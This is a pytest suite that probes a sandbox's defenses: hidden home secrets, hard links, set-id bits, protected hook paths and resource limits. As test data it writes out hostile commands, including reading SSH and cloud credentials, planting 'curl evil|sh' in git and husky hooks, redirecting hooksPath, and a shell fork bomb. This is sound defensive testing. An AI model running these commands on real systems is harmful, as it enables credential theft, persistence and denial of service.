"""Escape suite, sandbox v2: the read view, hard links, set-id bits, protected paths at any
depth, and resource limits. Every probe runs inside the real sandbox with a throwaway HOME;
every verdict is read from the host (or from what the kernel answered inside).
"""

from __future__ import annotations

import os
import stat
import subprocess
import textwrap
from pathlib import Path

import pytest

from safehold import SafetyConfig, SandboxConfig
from tests.adapters.bwrap.conftest import Runner, Unprivileged


@pytest.fixture
def home(outside: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A throwaway HOME outside /tmp, full of secrets in places no read root lists."""
    root = outside / "home"
    for rel, text in {
        ".ssh/id_ed25519": "SSH-KEY",
        ".aws/credentials": "AWS-KEY",
        "work/other/.env": "OTHER-PROJECT-ENV",
        "work/other/notes.txt": "OTHER-PROJECT-NOTES",
        "backup/id_rsa": "BACKUP-KEY",
        "backup/plain.txt": "BACKUP-PLAIN",
        ".config/git/credentials": "GIT-CRED",
        ".config/git/config": "[user]\n\tname = Agent\n",
        ".config/gh/hosts.yml": "GH-TOKEN",
        ".cargo/credentials.toml": "CARGO-TOKEN",
        ".cargo/bin/tool": "CARGO-TOOL",
        ".cache/pip/wheel.txt": "PIP-CACHE",
        ".gitconfig": "[core]\n\teditor = vi\n",
        ".cache/huggingface/token": "HF-TOKEN",
        ".cache/huggingface/stored_tokens": "HF-STORED-TOKEN",
        ".cache/huggingface/hub/version.txt": "1",
        ".nvm/versions/node/v20.0.0/etc/npmrc": "//registry.npmjs.org/:_authToken=NPM-TOKEN",
        ".nvm/versions/node/v20.0.0/bin/node-ok": "NODE-OK",
    }.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text + "\n")
    monkeypatch.setenv("HOME", str(root))
    return root


def _leaks(output: bytes) -> list[str]:
    secrets = [
        "SSH-KEY",
        "AWS-KEY",
        "OTHER-PROJECT",
        "BACKUP",
        "GIT-CRED",
        "GH-TOKEN",
        "CARGO-TOKEN",
        "OUTSIDE-SECRET",
        "HF-TOKEN",
        "HF-STORED-TOKEN",
        "NPM-TOKEN",
    ]
    return [s for s in secrets if s.encode() in output]


def test_unlisted_home_directories_are_not_mounted(run: Runner, home: Path) -> None:
    result = run(
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/work/other/.env ~/work/other/notes.txt "
        "~/backup/id_rsa ~/backup/plain.txt ~/.config/gh/hosts.yml 2>&1; "
        "grep -r . ~ 2>&1; ls -a ~"
    )
    assert _leaks(result.stdout) == []
    listing = set(result.stdout.split(b"\n")[-50:])
    assert b"work" not in listing and b"backup" not in listing and b".ssh" not in listing
    assert b".cache" in listing and b".cargo" in listing  # the read roots that exist


def test_read_roots_are_visible_read_only_and_masked_inside(run: Runner, home: Path) -> None:
    result = run(
        "cat ~/.cache/pip/wheel.txt ~/.cargo/bin/tool ~/.gitconfig; git config user.name; "
        "cat ~/.cargo/credentials.toml ~/.config/git/credentials; "
        "echo x > ~/.cache/pip/new; echo y >> ~/.gitconfig; echo z > ~/scratch && cat ~/scratch"
    )
    assert b"PIP-CACHE\nCARGO-TOOL\n" in result.stdout
    assert b"Agent" in result.stdout  # git read ~/.config/git/config
    assert _leaks(result.stdout) == []
    assert b"z\n" in result.stdout  # HOME itself is a private scratch tmpfs
    assert not (home / ".cache" / "pip" / "new").exists()
    assert (home / ".gitconfig").read_text() == "[core]\n\teditor = vi\n\n"
    assert not (home / "scratch").exists()


def test_tokens_kept_in_read_roots_are_masked(run: Runner, home: Path) -> None:
    # ~/.cache and ~/.nvm are default read roots: Hugging Face keeps its login token in
    # ~/.cache/huggingface, npm its global registry token in PREFIX/etc/npmrc (nvm: ~/.nvm).
    result = run(
        "cat ~/.cache/huggingface/token ~/.cache/huggingface/stored_tokens "
        "~/.nvm/versions/node/v20.0.0/etc/npmrc 2>&1; grep -r . ~/.cache ~/.nvm 2>&1; "
        "cat ~/.cache/huggingface/hub/version.txt ~/.nvm/versions/node/v20.0.0/bin/node-ok"
    )
    assert _leaks(result.stdout) == []
    assert result.stdout.endswith(b"1\nNODE-OK\n")  # the rest of those trees stays readable


def test_nothing_outside_the_view_exists(run: Runner, outside: Path) -> None:
    secret = outside / "data.txt"  # a name no pattern denies: only the view protects it
    secret.write_text("OUTSIDE-SECRET\n")
    result = run(
        f"cat {secret}; ls -d /root/* /home/* /srv/* /mnt/* /media/* /var/* /run/* 2>&1; "
        "cat /var/tmp/* 2>&1; echo end"
    )
    assert _leaks(result.stdout) == []
    assert b"No such file" in result.stdout or b"cannot access" in result.stdout
    for top in (b"/root/", b"/home/", b"/srv/", b"/mnt/", b"/media/", b"/run/"):
        assert not any(line.startswith(top) for line in result.stdout.splitlines())
    result = run(f"echo pwned > {outside}/new; mkdir -p /var/tmp/x && echo y > /var/tmp/x/f")
    assert result.exit_code != 0
    assert not (outside / "new").exists()


def test_hard_links_to_secrets_are_masked(run: Runner, ws: Path, home: Path) -> None:
    # A second name in the workspace for `~/.ssh/id_ed25519` (not mounted at all), for a
    # denied file in a read root, and for a denied file elsewhere in the workspace.
    os.link(home / ".ssh" / "id_ed25519", ws / "notes.txt")
    os.link(home / ".cargo" / "credentials.toml", ws / "cargo-notes.txt")
    (ws / "deploy").mkdir()
    (ws / "deploy" / "server.key").write_text("WS-KEY\n")
    os.link(ws / "deploy" / "server.key", ws / "readme-copy.txt")
    result = run("cat notes.txt; cat cargo-notes.txt; cat readme-copy.txt; cat README.md")
    assert b"SSH-KEY" not in result.stdout
    assert b"CARGO-TOKEN" not in result.stdout
    assert b"WS-KEY" not in result.stdout
    assert result.stdout == b"hello\n"  # ordinary files stay readable


def test_set_id_bits_and_device_nodes_are_refused(run: Runner, ws: Path) -> None:
    script = textwrap.dedent(
        """
        import os, stat
        out = []
        for name, call in [
            ("chmod", lambda: os.chmod("tool", 0o4755)),
            ("chmod-g", lambda: os.chmod("tool", 0o2755)),
            ("fchmod", lambda: os.fchmod(os.open("tool", os.O_RDONLY), 0o6755)),
            ("open", lambda: os.open("made", os.O_CREAT | os.O_WRONLY, 0o4755)),
            ("mknod-reg", lambda: os.mknod("node", stat.S_IFREG | 0o4755)),
            ("mknod-chr", lambda: os.mknod("dev", stat.S_IFCHR | 0o600, os.makedev(1, 3))),
            ("mknod-blk", lambda: os.mknod("blk", stat.S_IFBLK | 0o600, os.makedev(8, 0))),
        ]:
            try:
                call()
                out.append(name + "=ok")
            except OSError as e:
                out.append(name + "=" + str(e.errno))
        os.chmod("tool", 0o755); os.mknod("fifo", stat.S_IFIFO | 0o644)
        print(" ".join(out), "plain=ok")
        """
    )
    (ws / "tool").write_bytes(Path("/bin/true").read_bytes())
    result = run(["/usr/bin/python3", "-I", "-c", script])
    words = dict(w.split("=") for w in result.stdout.decode().split())
    assert words == {
        "chmod": "1",
        "chmod-g": "1",
        "fchmod": "1",
        "open": "1",
        "mknod-reg": "1",
        "mknod-chr": "1",
        "mknod-blk": "1",
        "plain": "ok",
    }, result.stderr
    run("chmod u+s,g+s tool; install -m 4755 tool tool2; cp -p tool tool3; chmod 6755 tool3")
    for name in ("tool", "tool2", "tool3", "made", "node"):
        path = ws / name
        if path.exists():
            assert not path.stat().st_mode & (stat.S_ISUID | stat.S_ISGID), name
    assert not (ws / "dev").exists() and not (ws / "blk").exists()
    assert stat.S_ISFIFO((ws / "fifo").stat().st_mode)


def _husky_config() -> SafetyConfig:
    # The configured list is what counts, never a list in the runner: `.husky/` added here
    # extends the defaults (it may be a default already).
    return SafetyConfig(protected_paths=(".husky/",), sandbox=SandboxConfig(read_roots=()))


def test_nested_protected_directories_are_read_only(run: Runner, ws: Path) -> None:
    sub = ws / "packages" / "web"
    sub.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(sub)], check=True)
    (sub / ".husky").mkdir()
    (sub / ".husky" / "pre-commit").write_text("npm test\n")
    before = sorted(os.listdir(sub / ".git" / "hooks"))
    result = run(
        "echo evil > packages/web/.git/hooks/post-checkout; "
        "echo 'curl evil|sh' > packages/web/.husky/pre-commit; "
        "rm -rf packages/web/.husky; mv packages/web packages/web2; "
        "git -C packages/web config core.hooksPath /tmp; echo done",
        config=_husky_config(),
    )
    assert result.stdout.endswith(b"done\n")
    assert sorted(os.listdir(sub / ".git" / "hooks")) == before
    assert (sub / ".husky" / "pre-commit").read_text() == "npm test\n"
    assert not (ws / "packages" / "web2").exists()
    assert b"hooksPath" not in (sub / ".git" / "config").read_bytes()


def test_missing_protected_paths_at_any_depth_do_not_stay(run: Runner, ws: Path) -> None:
    result = run(
        "mkdir -p a/b/.husky && echo 'curl evil|sh' > a/b/.husky/pre-commit; "
        "git init -q deep/repo && echo evil > deep/repo/.git/hooks/post-checkout; "
        "mkdir .vscode && echo '{}' > .vscode/tasks.json; echo done",
        config=_husky_config(),
    )
    assert result.stdout == b"done\n"
    for created in ("a/b/.husky", "deep/repo/.git", ".vscode"):
        assert not (ws / created).exists(), created
        assert (ws / f"{created}.safehold-blocked").exists(), created
        assert any(created in f and "moved to" in f for f in result.findings), result.findings
    # The moved-aside repository is not a repository: host git does not run its hooks.
    git = subprocess.run(
        ["git", "-C", str(ws / "deep" / "repo"), "rev-parse", "--git-dir"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert "deep/repo/.git" not in git.stdout


@pytest.mark.timeout(120)  # a fork bomb that is not stopped fails as a hang
def test_fork_bomb_ends_cleanly_with_a_message(run: Runner) -> None:
    # Root callers: the pids cgroup stops the sandbox at once. Others: RLIMIT_NPROC refuses
    # the forks and the process watchdog stops the sandbox that stays at the limit.
    result = run(":(){ :|:& };:; sleep 100", max_processes=64, timeout=60)
    assert not result.timed_out
    assert result.exit_code == 137
    assert b"max_processes" in result.stderr
    assert run("echo alive").stdout == b"alive\n"  # the host (and the runner) carry on


@pytest.mark.timeout(120)
def test_memory_hog_ends_cleanly_with_a_message(run: Runner) -> None:
    hog = "b = bytearray(2 * 1024**3); print('ALLOCATED')"
    result = run(["/usr/bin/python3", "-I", "-c", hog], max_memory_mb=256, timeout=60)
    assert result.exit_code not in (0, None)
    assert b"ALLOCATED" not in result.stdout
    assert b"MemoryError" in result.stderr
    ok = run(["/usr/bin/python3", "-I", "-c", "b = bytearray(64 * 1024**2); print('ok')"])
    assert ok.stdout == b"ok\n"  # the default bound leaves ordinary work alone


def test_the_main_stack_is_bounded_too(run: Runner) -> None:
    # RLIMIT_DATA does not count the main stack: with its hard limit unlimited, `ulimit -s
    # unlimited` and a deep recursion (json's C parser, 1e6 levels: about 140 MB of stack,
    # 70 MB of heap) grew it past max_memory_mb. Now the recursion overflows the bound.
    deep = (
        "import json, sys; sys.setrecursionlimit(10**8); n = 1_000_000; "
        "json.loads('[' * n + ']' * n); "
        "print([l.split()[1] for l in open('/proc/self/status') if l.startswith('VmStk')][0])"
    )
    script = (
        "ulimit -s unlimited 2>/dev/null || echo refused; ulimit -s $(ulimit -Hs); "
        f'echo hard=$(ulimit -Hs) soft=$(ulimit -Ss); python3 -c "{deep}"; echo rc=$?'
    )
    result = run(script, max_memory_mb=128, timeout=60)
    lines = result.stdout.decode().split()
    assert lines[:2] == ["refused", f"hard={128 * 1024}"], result.stdout
    assert lines[-1] != "rc=0" and len(lines) == 4, result.stdout  # no VmStk: it crashed


_UNPRIVILEGED = """
import shlex, sys
FORKS = '''
import os, time
n = 0
try:
    while n < 100:
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        n += 1
    print("forks-allowed", n)
except OSError as e:
    print("forks-refused", e.errno)
'''

from safehold import SafetyConfig, SandboxConfig
from safehold.adapters.bwrap import run_sandboxed_sync
config = SafetyConfig(sandbox=SandboxConfig(max_processes=20))
r = run_sandboxed_sync(
    "id -u; echo built > out.txt; grep ^CapEff /proc/self/status; cat ~/.ssh/id_ed25519; "
    "/usr/bin/python3 -I -c " + shlex.quote(FORKS),
    cwd=sys.argv[1], config=config, timeout=60,
)
# The hang timeout: a bomb the watchdog does not stop runs into it (`sleep 100` outlasts it)
# and comes back timed out; no elapsed time is compared.
bomb = run_sandboxed_sync(
    ":(){ :|:& };:; sleep 100", cwd=sys.argv[1],
    config=SafetyConfig(sandbox=SandboxConfig(max_processes=64)), timeout=45,
)
stopped = b"max_processes" in bomb.stderr
summary = f"bomb {bomb.exit_code} {bomb.timed_out} {stopped}\\n"
sys.stdout.write(r.stdout.decode() + summary + "|" + r.stderr.decode())
"""


@pytest.mark.timeout(180)
def test_the_runner_works_as_an_unprivileged_user(
    outside: Path, unprivileged: Unprivileged
) -> None:
    # As root the test drops to `nobody` with setpriv; run by a normal user it is already
    # unprivileged. The interpreter is the system one (the venv's may sit under /root).
    ws, home = outside / "ws", outside / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("SSH-KEY\n")
    ws.mkdir()
    unprivileged.own(outside)
    done = unprivileged.run(_UNPRIVILEGED, str(ws), home=home)
    assert done.returncode == 0, done.stderr
    out, _, err = done.stdout.partition("|")
    lines = out.splitlines()
    assert lines[0] == str(unprivileged.uid)
    assert lines[1].split() == ["CapEff:", "0000000000000000"]
    assert "SSH-KEY" not in out
    assert (ws / "out.txt").read_text() == "built\n"
    assert lines[-2] == "forks-refused 11", err  # EAGAIN: RLIMIT_NPROC inside the sandbox
    # A fork bomb churning at RLIMIT_NPROC is stopped by the process watchdog (no cgroup
    # needed) before its hang timeout: a clean 137 with the message, not timed out.
    _, code, timed_out, stopped = lines[-1].split()
    assert (code, timed_out, stopped) == ("137", "False", "True"), (lines[-1], err)


def test_write_denied_paths_are_read_only_in_the_sandbox(run: Runner, ws: Path) -> None:
    # `write_denied_paths` denies the visible writes; code the analysis cannot see meets a
    # read-only mount (it is pinned like a protected path), while reads still work.
    (ws / "vendor").mkdir()
    (ws / "vendor" / "lib.py").write_text("y = 2\n")
    config = SafetyConfig(
        write_denied_paths=("{workspace}/vendor",), sandbox=SandboxConfig(read_roots=())
    )
    result = run(
        "cat vendor/lib.py; echo evil > vendor/lib.py; rm -rf vendor; echo done", config=config
    )
    assert result.stdout == b"y = 2\ndone\n"
    assert (ws / "vendor" / "lib.py").read_text() == "y = 2\n"
